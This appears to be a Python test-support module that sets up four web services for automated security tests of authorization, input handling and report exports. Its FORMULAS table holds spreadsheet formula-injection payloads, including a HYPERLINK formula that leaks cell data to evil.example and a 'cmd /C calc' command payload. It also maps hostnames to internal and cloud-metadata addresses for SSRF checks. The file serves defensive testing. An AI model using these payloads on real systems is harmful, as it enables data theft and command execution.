"""The services the security tests attack, one line each, and what every attack needs: the
routes read from the app, requests built from the OpenAPI document, callers, objects."""

from __future__ import annotations

import contextlib
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time
from pathlib import Path
from typing import Any
from uuid import uuid4

import httpx
from aiokafka import AIOKafkaProducer
from bali_activities.app import create_app as create_activities
from bali_activities.settings import ActivitiesSettings
from bali_common.auth import Role
from bali_common.catalogue import load_strategy
from bali_common.db import utcnow
from bali_common.events import STREAM_TOPICS, CloudEvent
from bali_common.events.activities import (
    ActivityCreated,
    ActivityParticipant,
    ActivityStatus,
    ActivitySummary,
    ActivityType,
    AgeGroupValue,
    OutputValue,
    ParticipantRole,
)
from bali_common.events.alerts import (
    AlertRaised,
    AlertStatus,
    AlertSummary,
    Certainty,
    Sensitivity,
    Severity,
    SituationType,
    Urgency,
)
from bali_common.events.members import MemberKind, MemberRegistered
from bali_common.events.shared import Actor
from bali_common.http.concurrency import etag_of
from bali_common.settings import CommonSettings
from bali_consultation.alerts.schemas import ALERT_EXAMPLE
from bali_consultation.app import create_app as create_consultation
from bali_consultation.settings import ConsultationSettings
from bali_devkit.broker import free_port
from bali_devkit.testing.plugin import (
    TokenBook,
    eventually,
    running,
    serving,
    settings_factory_for,
)
from bali_notifications.app import create_app as create_notifications
from bali_notifications.deliveries.models import Delivery, DeliveryStatus, SourceEvent
from bali_notifications.inbox.models import InboxItem
from bali_notifications.settings import NotificationsSettings
from bali_reporting.app import create_app as create_reporting
from bali_reporting.settings import ReportingSettings
from fastapi import FastAPI
from fastapi.routing import iter_route_contexts

MISSING = "00000000-0000-0000-0000-000000000000"
#: The services' body limit here: small, so that oversize bodies stay cheap to send.
MAX_REQUEST_BYTES = 20_000
#: The member that owns the private objects, and one that must not see them.
OWNER = "MY"
OUTSIDER = "PH"
SHEET = (
    "title,items,type,status,participants,planned_start,planned_end\r\n"
    "Border officials' biometrics training,15;16,training,planned,IOM:participant,"
    "2026-03-02,2026-03-06\r\n"
)


@dataclass
class Deployed:
    """A running service and the ids its attacks use for each path parameter."""

    name: str
    app: FastAPI
    client: httpx.AsyncClient
    settings: CommonSettings
    tokens: TokenBook
    spec: dict[str, Any]
    #: The same app over a real socket: streamed responses (server-sent events) end only when
    #: the client hangs up, which the in-process client cannot do.
    live: httpx.AsyncClient
    #: Path parameter -> id of an object of OWNER that OUTSIDER may not see.
    private: dict[str, str] = field(default_factory=dict)
    #: Path parameter -> an id that names nothing.
    missing: dict[str, str] = field(default_factory=dict)

    def changer(self) -> dict[str, str]:
        return SERVICES[self.name].changer(self.tokens)

    def callers(self) -> dict[str, dict[str, str]]:
        return {
            "member": self.tokens(OUTSIDER, (Role.member,)),
            "co_chair": self.tokens.co_chair("AU"),
            "ops": self.tokens.ops(),
            "admin": self.tokens.admin(),
            "no token": {},
            "bad token": {"Authorization": "Bearer not.a.token"},
        }


Seed = Callable[[Deployed], Awaitable[None]]


async def seed_activities(service: Deployed) -> None:
    """A soft-deleted activity of OWNER: hidden from other members."""
    owner = service.tokens(OWNER, (Role.member,))
    created = await service.client.post(
        "/v1/activities", json=body_of(service, "post", "/v1/activities"), headers=owner
    )
    assert created.status_code == 201, created.text
    activity_id = created.json()["id"]
    deleted = await service.client.delete(f"/v1/activities/{activity_id}", headers=owner)
    assert deleted.status_code == 200, deleted.text
    member = await service.client.get(f"/v1/members/{OWNER}", headers=service.tokens.admin())
    focal_points = member.json()["focal_points"]
    service.private = {
        "activity_id": activity_id,
        "member_id": OWNER,
        "focal_point_id": focal_points[0]["focal_point_id"] if focal_points else "fp-1",
        "letter_id": "1",
    }
    service.missing = {
        "activity_id": MISSING,
        "member_id": "ZZ",
        "focal_point_id": "no-such-focal-point",
        "letter_id": "999999",
    }


async def seed_consultation(service: Deployed) -> None:
    """A restricted alert of OWNER that names neither OUTSIDER nor its focal points."""
    body = {**ALERT_EXAMPLE, "sensitivity": "restricted", "affected_members": ["ID"]}
    body["dedup_key"] = "security-private-alert"
    raised = await service.client.post(
        "/v1/alerts", json=body, headers=service.tokens(OWNER, (Role.member,))
    )
    assert raised.status_code == 201, raised.text
    service.private = {"alert_id": raised.json()["id"], "letter_id": "1"}
    service.missing = {"alert_id": MISSING, "letter_id": "999999"}


#: Host names the notifications service resolves through `resolver`, never the system's DNS.
PUBLIC_ADDRESS = "93.184.215.14"
FAKE_DNS = {
    "localhost": ["127.0.0.1", "::1"],
    "hooks.example.org": [PUBLIC_ADDRESS],
    "receiver.example.org": [PUBLIC_ADDRESS],
    "intranet.example.org": ["10.1.2.3"],
    "localhost.example.org": ["127.0.0.1"],
    "metadata.example.org": ["169.254.169.254"],
    "mixed.example.org": [PUBLIC_ADDRESS, "192.168.1.10"],
    "v6-loopback.example.org": ["::1"],
    "v6-mapped.example.org": ["::ffff:127.0.0.1"],
}
#: Every host name the notifications service asked the resolver for, in order.
RESOLVED: list[str] = []


async def resolver(host: str, port: int) -> list[str]:
    """DNS for the tests: public names resolve to a documentation address, never the network."""
    RESOLVED.append(host)
    return FAKE_DNS.get(host, [PUBLIC_ADDRESS])


def notifications_app(settings: NotificationsSettings) -> FastAPI:
    return create_notifications(settings, resolver=resolver)


async def add_rows(service: Deployed, *rows: Any) -> None:
    """Rows written straight to the service's database: objects only events would create."""
    async with service.app.state.runtime.sessions() as session:
        for row in rows:
            session.add(row)
        await session.commit()


async def notification_objects(service: Deployed, member: str) -> dict[str, str]:
    """A subscription, a failed delivery and an inbox item of `member`."""
    headers = service.tokens(member, (Role.member,))
    body = {"name": f"{member} desk", "channel": "email", "email": f"desk@{member.lower()}.example"}
    created = await service.client.post("/v1/subscriptions", json=body, headers=headers)
    assert created.status_code == 201, created.text
    source = SourceEvent(
        event_id=f"evt-{uuid4().hex}",
        event_type="activity.created",
        subject=f"activity-{member}",
        occurred_at=utcnow(),
        data={"title": f"An activity of {member}"},
    )
    delivery = Delivery(
        source_event_id=source.event_id,
        event_type=source.event_type,
        channel="email",
        recipient=f"desk@{member.lower()}.example",
        member_id=member,
        subscription_id=created.json()["id"],
        reason="subscription",
        status=DeliveryStatus.failed.value,
        attempt_count=1,
    )
    item = InboxItem(
        owner=f"member:{member}",
        delivery_id=f"inbox-{uuid4().hex}",
        event_type=source.event_type,
        title=f"An activity of {member}",
        body="Planned",
    )
    await add_rows(service, source, delivery, item)
    assert item.id is not None
    return {
        "subscription_id": created.json()["id"],
        "delivery_id": delivery.id,
        "item_id": str(item.id),
    }


async def seed_notifications(service: Deployed) -> None:
    """A subscription, a failed delivery and an inbox item of OWNER."""
    service.private = {**await notification_objects(service, OWNER), "letter_id": "1"}
    service.missing = {
        "subscription_id": MISSING,
        "delivery_id": MISSING,
        "item_id": "2147483647",
        "letter_id": "999999",
    }


#: Text that spreadsheet software runs as a formula, put into every free-text field that
#: reaches a report: alone, after a list separator, after spaces, after a tab.
FORMULAS = {
    "member name": '=HYPERLINK("http://evil.example/?"&A1,"Member")',
    "alert title": "+SUM(1+1)*cmd|' /C calc'!A0",
    "affected member": "-2+3",
    "activity title": "@SUM(1+1)",
    "lead member": "\t=1+1",
    "participant": "x;=1+1",
    "indicator": "=1+1",
    "unit": " -1+1",
    "age group": "18-24;@A1",
}


def hostile_events(today: date) -> list[CloudEvent]:
    """The events other services would publish, with `FORMULAS` in their free text."""
    now = datetime.combine(today, time(3), tzinfo=UTC)
    actor = Actor(subject="someone", member_id="TH")
    member = MemberRegistered(
        member_id="TH",
        name=FORMULAS["member name"],
        kind=MemberKind.member_state,
        is_co_chair=False,
        version=1,
    )
    alert = AlertSummary(
        alert_id="formula-alert",
        version=1,
        status=AlertStatus.raised,
        situation_type=SituationType.maritime_distress,
        title=FORMULAS["alert title"],
        severity=Severity.extreme,
        urgency=Urgency.immediate,
        certainty=Certainty.observed,
        sensitivity=Sensitivity.public,
        raised_by_member="TH",
        affected_members=["ID", FORMULAS["affected member"]],
        raised_at=now,
    )
    output = OutputValue(
        indicator=FORMULAS["indicator"],
        value=12,
        unit=FORMULAS["unit"],
        by_age=[AgeGroupValue(age_group=FORMULAS["age group"], value=12)],
    )
    participants = ["TH", FORMULAS["participant"]]
    activity = ActivitySummary(
        activity_id="formula-activity",
        version=1,
        title=FORMULAS["activity title"],
        item_numbers=[11],
        area_numbers=[load_strategy().item(11).area_number],
        type=ActivityType.workshop,
        status=ActivityStatus.completed,
        lead_member=FORMULAS["lead member"],
        participating_members=participants,
        participants=[
            ActivityParticipant(member_id=FORMULAS["lead member"], role=ParticipantRole.lead),
            *(
                ActivityParticipant(member_id=m, role=ParticipantRole.participant)
                for m in participants
            ),
        ],
        planned_start=today,
        planned_end=today,
        outputs=[output],
        related_alert_id=alert.alert_id,
    )
    return [
        CloudEvent.of(member, source="/bali/activities", subject="TH"),
        CloudEvent.of(
            AlertRaised(alert=alert, actor=actor, occurred_at=now, description="Boats adrift"),
            source="/bali/consultation",
            subject=alert.alert_id,
        ),
        CloudEvent.of(
            ActivityCreated(activity=activity, actor=actor, occurred_at=now),
            source="/bali/activities",
            subject=activity.activity_id,
        ),
    ]


async def publish(settings: CommonSettings, events: list[CloudEvent]) -> None:
    """To the topics of the events' streams, as the services' outbox relays do."""
    producer = AIOKafkaProducer(bootstrap_servers=settings.kafka_bootstrap_servers)
    await producer.start()
    try:
        for event in events:
            topic = STREAM_TOPICS[event.payload().stream].qualified(settings.kafka_topic_prefix)
            await producer.send(
                topic, event.kafka_value(), key=event.kafka_key(), headers=event.kafka_headers()
            )
        await producer.flush()
    finally:
        await producer.stop()


async def seed_reporting(service: Deployed) -> None:
    """Reports built from events whose free text holds formulas. Reporting keeps no member's
    objects: its ids are operations' (rebuild runs, dead letters)."""
    events = hostile_events(datetime.now(UTC).date())
    await publish(service.settings, events)
    admin = service.tokens.admin()

    async def applied() -> bool:
        counts = await service.client.get("/v1/pipeline/event-counts", headers=admin)
        return int(counts.json()["total"]) >= len(events)

    await eventually(applied, timeout=60)
    # A year is a report's period, not an object: the same, valid, in both.
    year = str(datetime.now(UTC).year)
    service.private = {"run_id": uuid4().hex, "letter_id": "1", "year": year}
    service.missing = {"run_id": "0" * 32, "letter_id": "999999", "year": year}


@dataclass(frozen=True)
class ServiceUnderAttack:
    settings: type[CommonSettings]
    create_app: Callable[[Any], FastAPI]
    seed: Seed
    #: Who may change everything the service holds, so that hostile input reaches the checks
    #: behind authorization (an acting co-chair for alerts: administrators read, never act).
    changer: Callable[[TokenBook], dict[str, str]] = TokenBook.admin


SERVICES: dict[str, ServiceUnderAttack] = {
    "activities": ServiceUnderAttack(ActivitiesSettings, create_activities, seed_activities),
    "consultation": ServiceUnderAttack(
        ConsultationSettings,
        create_consultation,
        seed_consultation,
        changer=lambda tokens: tokens.co_chair("AU"),
    ),
    "notifications": ServiceUnderAttack(
        NotificationsSettings, notifications_app, seed_notifications
    ),
    "reporting": ServiceUnderAttack(ReportingSettings, create_reporting, seed_reporting),
}


@contextlib.asynccontextmanager
async def deployed(
    name: str, kafka_bootstrap: str, directory: Path, **overrides: Any
) -> AsyncIterator[Deployed]:
    under_attack = SERVICES[name]
    async with settings_factory_for(kafka_bootstrap, directory) as settings_for:
        settings = await settings_for(under_attack.settings, **overrides)
        app = under_attack.create_app(settings)
        port = free_port()
        async with (
            running(app) as client,
            serving(app, port),
            httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", timeout=20) as live,
        ):
            spec = (await client.get("/openapi.json")).json()
            service = Deployed(name, app, client, settings, TokenBook(settings), spec, live)
            await under_attack.seed(service)
            yield service


# --- the routes -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Route:
    method: str
    path: str
    #: FastAPI's view of the route as included (prefix and router dependencies applied).
    route: Any

    @property
    def label(self) -> str:
        return f"{self.method.upper()} {self.path}"

    @property
    def path_params(self) -> list[str]:
        return [p.name for p in self.route.dependant.path_params]

    def header(self, alias: str) -> bool:
        return any(
            p.alias == alias for d in _dependants(self.route.dependant) for p in d.header_params
        )

    def query(self, alias: str) -> bool:
        return any(
            p.alias == alias for d in _dependants(self.route.dependant) for p in d.query_params
        )

    def authorization(self) -> frozenset[Role] | str | None:
        """The roles the route's dependency allows, the reason it is public, or None."""
        for dependant in _dependants(self.route.dependant):
            call = dependant.call
            if hasattr(call, "allowed_roles"):
                return frozenset(call.allowed_roles)
            if hasattr(call, "public_reason"):
                return str(call.public_reason)
        return None


def _dependants(dependant: Any) -> list[Any]:
    found = [dependant]
    for sub in dependant.dependencies:
        found.extend(_dependants(sub))
    return found


def routes(app: FastAPI) -> list[Route]:
    """Every API operation of the app (probes and documents aside), as the app routes it."""
    found = []
    for route in iter_route_contexts(app.routes):
        path = route.path or ""
        if path.startswith("/v1/") and getattr(route, "dependant", None) is not None:
            for method in sorted(route.methods or ()):
                found.append(Route(method.lower(), path, route))
    assert found, "the app routes nothing under /v1/"
    return found


def operation_of(service: Deployed, method: str, path: str) -> dict[str, Any]:
    operation = service.spec["paths"][path][method]
    assert isinstance(operation, dict)
    return operation


def _resolve(spec: dict[str, Any], schema: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in schema:
        schema = spec["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    return schema


def body_of(service: Deployed, method: str, path: str) -> Any:
    """The documented example of the operation's JSON body, {} for an optional one."""
    content = operation_of(service, method, path).get("requestBody", {}).get("content", {})
    json_body = content.get("application/json")
    if json_body is None:
        return None
    if "example" in json_body:
        return json_body["example"]
    schema = json_body.get("schema", {})
    for option in [schema, *schema.get("anyOf", [])]:
        resolved = _resolve(service.spec, option)
        if resolved.get("examples"):
            return resolved["examples"][0]
    return {}


def request_kwargs(
    service: Deployed, route: Route, ids: dict[str, str], headers: dict[str, str]
) -> dict[str, Any]:
    """A well-formed request of the route: path ids, documented body, If-Match where read."""
    url = route.path
    for name in route.path_params:
        url = url.replace(f"{{{name}}}", ids.get(name, MISSING))
    kwargs: dict[str, Any] = {"method": route.method, "url": url, "headers": dict(headers)}
    if route.header("If-Match"):
        kwargs["headers"]["If-Match"] = etag_of(1)
    content = operation_of(service, route.method, route.path).get("requestBody", {})
    media = content.get("content", {})
    if "multipart/form-data" in media and "application/json" not in media:
        kwargs["files"] = {"file": ("activities.csv", SHEET.encode(), "text/csv")}
    elif "application/json" in media:
        kwargs["json"] = body_of(service, route.method, route.path)
    return kwargs


def body_media_type(service: Deployed, route: Route) -> str | None:
    media = operation_of(service, route.method, route.path).get("requestBody", {})
    types = list(media.get("content", {}))
    if not types:
        return None
    return "application/json" if "application/json" in types else types[0]


def streams(service: Deployed, route: Route) -> bool:
    """The route answers with server-sent events: a response that never ends by itself."""
    responses = operation_of(service, route.method, route.path).get("responses", {})
    return "text/event-stream" in responses.get("200", {}).get("content", {})


async def call(service: Deployed, route: Route, **kwargs: Any) -> httpx.Response:
    """The route's answer; of an event stream, its status and headers (and the body of a
    refusal), read over the socket, then the stream is closed."""
    if not streams(service, route):
        return await service.client.request(**kwargs)
    method, url = kwargs.pop("method"), kwargs.pop("url")
    async with service.live.stream(method, url, **kwargs) as response:
        if response.status_code != 200:
            await response.aread()
        return response
